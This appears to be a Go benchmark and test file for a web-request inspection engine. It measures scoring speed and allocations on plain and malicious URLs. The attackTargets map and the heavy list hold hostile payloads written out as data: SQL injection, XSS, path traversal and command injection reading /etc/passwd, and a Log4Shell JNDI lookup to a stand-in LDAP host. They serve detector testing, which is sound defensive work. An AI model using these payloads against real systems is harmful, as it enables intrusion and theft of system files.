package inspect

import (
	"strings"
	"testing"

	"github.com/portcullis/portcullis/ingest"
)

const plainAgent = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"

func plainEvent() *ingest.Event {
	return &ingest.Event{
		Target: "/api/v1/customers/4711/orders?page=2&limit=50&sort=created_at&status=open&view=s",
		Agent:  plainAgent,
	}
}

func BenchmarkPlain(b *testing.B) {
	in := New(Config{})
	ev := plainEvent()
	b.ReportAllocs()
	for b.Loop() {
		if in.Inspect(ev).Score != 0 {
			b.Fatal("a plain request scores")
		}
	}
}

func BenchmarkPlainWithReferer(b *testing.B) {
	in := New(Config{})
	ev := plainEvent()
	ev.Referer = "https://www.example.com/customers/4711?tab=orders"
	b.ReportAllocs()
	for b.Loop() {
		if in.Inspect(ev).Score != 0 {
			b.Fatal("a plain request scores")
		}
	}
}

// BenchmarkEncodedPlain changes its target each time, so that the memory of
// clean targets does not answer.
func BenchmarkEncodedPlain(b *testing.B) {
	in := New(Config{})
	ev := plainEvent()
	targets := make([]string, 1<<14)
	for i := range targets {
		targets[i] = "/search?q=caf%C3%A9+cr%C3%A8me+" + strings.Repeat("x", i%40) + string(rune('a'+i%26)) + string(rune('a'+i/26%26)) + string(rune('a'+i/676%26))
	}
	b.ReportAllocs()
	for i := 0; b.Loop(); i++ {
		ev.Target = targets[i&(len(targets)-1)]
		if in.Inspect(ev).Score != 0 {
			b.Fatal("a plain request scores")
		}
	}
}

var attackTargets = map[string]string{
	"sqli":      "/items?id=-4803%27%29%20UNION%20ALL%20SELECT%20NULL%2CCONCAT%280x71%2Cversion%28%29%29%2CNULL--%20",
	"xss":       "/search?q=%3Cimg+src%3Dx+onerror%3Dalert%281%29%3E",
	"traversal": "/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
	"log4shell": "/?x=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2F192.0.2.1%2Fa%7D",
	"cmdi":      "/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd",
	"honest":    "/search?q=O%27Neill+%26+Sons+%28Ltd.%29",
}

func BenchmarkAttack(b *testing.B) {
	for name, target := range attackTargets {
		b.Run(name, func(b *testing.B) {
			in := New(Config{})
			ev := &ingest.Event{Target: target, Agent: plainAgent}
			b.ReportAllocs()
			for b.Loop() {
				in.Inspect(ev)
			}
		})
	}
}

// heavy inputs repeat what each part of the inspection is slowest at.
var heavy = []string{
	"a", "'", "\"'", "(", ")(", "<a ", "<", "<a onx", "${", "${a:", "{{", "../", "..", "/./", "%25", "%2525", "%u0027", "&#39;", "\\x41",
	"or ", "1 or ", " or 1=", "case ", "(case when ", "union select ", "select 1,", "select ", ";", ";id", "|cat ", "`", "$(", "$a", "'a", "/*", "--", "\n", "\r\nx-",
	"sleep(", "eval(", "system('", "print(", "http://", "=", "onx=", "[$", "{\"$", "__proto__", "constructor", "alert(", "alert(1)", "0x2e", "() {", "()", "&&", "a=1&", "xAxA",
	"ascii(", "md5('", "<!entity", "<!doctype ", ")(a=", "char(", "' or ", "' or '", "cat /etc/", "@", "not ", "-", "||", "concat(", "$where", ":{s:", "dropcount(/*)=1", "//*/*", "\x80", "\xc0\xaf", "\x00a", "${${",
	"or$(sleep%{os\\n(1=1or", "'$(sleep{onmouseover=\"alert(1)", "<ax=')(';|';sleep(5000);'{},${1'/???/p??s??'&&<iframe",
}

func heavyTarget(unit string, n int) string {
	return "/x?q=" + strings.Repeat(unit, n/len(unit)+1)[:n]
}

func BenchmarkHeavy(b *testing.B) {
	for _, unit := range heavy {
		b.Run(strings.ReplaceAll(unit, "/", "_"), func(b *testing.B) {
			in := New(Config{})
			ev := &ingest.Event{Target: heavyTarget(unit, 8192)}
			for b.Loop() {
				in.Inspect(ev)
			}
		})
	}
}

func TestPlainAllocatesNothing(t *testing.T) {
	in := New(Config{})
	ev := plainEvent()
	ev.Referer = "https://www.example.com/a?q=caf%C3%A9"
	ev.Target += "&q=b%C3%A9b%C3%A9+one"
	in.Inspect(ev)
	if n := testing.AllocsPerRun(100, func() { in.Inspect(ev) }); n != 0 {
		t.Errorf("%v allocations for a plain request", n)
	}
	attack := &ingest.Event{Target: attackTargets["sqli"], Agent: plainAgent}
	in.Suspicious(attack)
	if n := testing.AllocsPerRun(100, func() { in.Suspicious(attack) }); n != 0 {
		t.Errorf("%v allocations in the first pass over an attack", n)
	}
}
